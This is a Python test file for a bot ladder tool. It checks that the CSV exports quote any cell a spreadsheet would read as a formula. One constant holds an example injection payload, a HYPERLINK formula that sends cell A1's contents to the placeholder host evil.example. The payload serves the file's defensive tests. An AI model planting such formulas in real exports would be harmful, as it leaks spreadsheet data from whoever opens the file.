"""Text others chose reaches an organiser's spreadsheet as text: a ladder bot's version
``=HYPERLINK(...)`` in a CSV export must not become a formula when the file is opened."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from medina.boundary.spreadsheet import cell, csv_rows
from medina.cli import main
from medina.storage.ladder import LadderStore
from medina.tournament.report import to_csv

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_a_spreadsheet_would_take_for_a_formula_is_quoted(start: str) -> None:
    assert cell(start + "1+1") == "'" + start + "1+1"


def test_other_cells_are_left_as_they_are() -> None:
    for value in ("v1", "greedy", "", "a=b", -3.25, 0, None, "'quoted"):
        assert cell(value) == value
    assert csv_rows(["mu", "bot"], [[-1.5, "-x"]]) == "mu,bot\n-1.5,'-x\n"


def test_the_ladders_and_tournaments_csv_exports_quote_formulas(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = str(tmp_path / "l.db")
    assert main(["bots", "add", "eve", "--db", db]) == 0
    store = LadderStore(db)
    store.line(store.account("eve").id, FORMULA, -2.0, 8.3)
    store.engine.dispose()
    for argv in (
        ["ladder", "standings", "--format", "csv"],
        ["ladder", "export", "--format", "csv"],
    ):
        capsys.readouterr()
        assert main([*argv, "--db", db]) == 0
        rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
        versions = [row[2] for row in rows if len(row) > 2 and "HYPERLINK" in row[2]]
        assert versions == ["'" + FORMULA], rows
        assert not any(c.startswith("=") for row in rows for c in row)
    (row,) = list(csv.DictReader(io.StringIO(to_csv([{"bot": FORMULA, "mu": -1.0}]))))
    assert row == {"bot": "'" + FORMULA, "mu": "-1.0"}
